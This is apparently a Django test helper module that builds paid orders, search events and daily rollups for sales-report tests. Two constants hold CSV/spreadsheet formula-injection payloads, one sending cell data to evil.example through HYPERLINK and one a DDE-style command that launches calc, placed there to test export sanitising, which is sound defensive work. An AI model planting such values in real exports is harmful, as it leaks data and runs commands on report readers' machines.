"""Sales to report on: real paid orders through the checkout, a search or
two as events, then the day's rollups (``analytics.rollups``)."""

from datetime import date
from decimal import Decimal

from django.contrib.auth.models import Permission
from django.utils import timezone

from accounts.models import User
from analytics.models import Event
from analytics.rollups import rollups_rebuild
from orders.models import Order
from tests.factories import UserFactory
from tests.orders.staff_helpers import paid_order

# What shoppers type or staff name, written to look like spreadsheet formulas.
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
FORMULA_SEARCH = "@SUM(1+1)*cmd|' /C calc'!A0"


def sales_today(*, title: str = "Desk lamp") -> list[Order]:
    """Two paid orders today (one product titled ``title``), two searches
    (one finding nothing), and today's rollups; returns the orders."""
    first, (lamp, *_rest) = paid_order(2, 1, price=Decimal("12.50"))
    lamp.product.title = title
    lamp.product.save(update_fields=["title"])
    second, _variants = paid_order(3, price=Decimal("7.25"))
    now = timezone.now()
    for n, (query, results) in enumerate([(FORMULA_SEARCH, 0), ("lamp", 4)]):
        Event.objects.create(
            name=Event.Name.SEARCH, occurred_at=now, visitor=f"v{n}", query=query, results=results
        )
    today = timezone.localdate()
    rollups_rebuild(today, today)
    return [first, second]


def today() -> date:
    return timezone.localdate()


def reports_staff(**fields: object) -> User:
    """A staff member with the reports' permission (not a superuser)."""
    user = UserFactory.create(**{"is_staff": True, **fields})
    user.user_permissions.add(
        Permission.objects.get(codename="view_reports", content_type__app_label="analytics")
    )
    return user
